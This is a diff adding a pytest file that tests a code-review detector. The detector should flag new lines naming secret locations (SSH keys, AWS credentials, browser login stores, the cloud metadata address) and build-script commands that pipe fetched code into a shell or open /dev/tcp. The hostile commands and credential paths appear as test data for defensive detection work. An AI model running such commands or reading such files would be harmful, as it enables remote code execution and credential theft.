@@ -1,0 +1,64 @@
+"""Lines that tell by themselves."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from tests.comparators.analysis.findings.cases import lines
+
+SECRETS = [
+    ("open(os.path.expanduser('~/.ssh/id_rsa'))", ".ssh/id_"),
+    ("p = home / '.aws/credentials'", ".aws/credentials"),
+    ("x = 'Login Data'", "Login Data"),
+    (
+        "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
+        "CurrentVersion\\Run",
+    ),
+    ("f = '.bashrc'", ".bashrc"),
+    ("requests.get('http://169.254.169.254/latest')", "169.254.169.254"),
+]
+COMMANDS = [
+    "curl -s https://a.invalid/x | sh",
+    "wget -qO- https://a.invalid/x | sudo bash",
+    "bash <(curl -s https://a.invalid/x)",
+    "echo cHJpbnQ= | base64 -d > x",
+    "xz -dc tests/x.xz | /bin/sh",
+    "exec 3<>/dev/tcp/a.invalid/80",
+    "powershell -enc SQBFAFgA",
+]
+ORDINARY = [
+    "curl -O https://a.example/x.tar.gz",
+    "tar xzf x.tar.gz",
+    "sh ./configure",
+    "profile = 1",
+]
+
+
+@pytest.mark.parametrize(("new", "text"), SECRETS)
+def test_a_path_of_secrets(new: str, text: str) -> None:
+    tree = {"p/m.py": new.encode()}
+    found = lines({}, tree, "new-capability")
+    assert f"review new-capability p/m.py:1 names {text}" in found
+    assert lines(tree, tree, "new-capability") == []
+
+
+@pytest.mark.parametrize("new", COMMANDS)
+def test_a_command_that_runs_what_it_fetched(new: str) -> None:
+    tree = {"build.sh": f"#!/bin/sh\n{new}\n".encode()}
+    [found] = lines({}, tree, "runs-at-build")
+    assert found.startswith("alert runs-at-build build.sh:2 ")
+    assert lines(tree, tree, "runs-at-build") == []
+
+
+@pytest.mark.parametrize("new", ORDINARY)
+def test_ordinary_lines_are_silent(new: str) -> None:
+    assert lines({}, {"build.sh": new.encode()}) == []
+
+
+def test_long_lines_take_no_time() -> None:
+    start = time.process_time()
+    for word in (b"curl ", b"base64 ", b"powershell ", b"Google"):
+        lines({}, {"build.sh": word * 20_000})
+    assert time.process_time() - start < 5
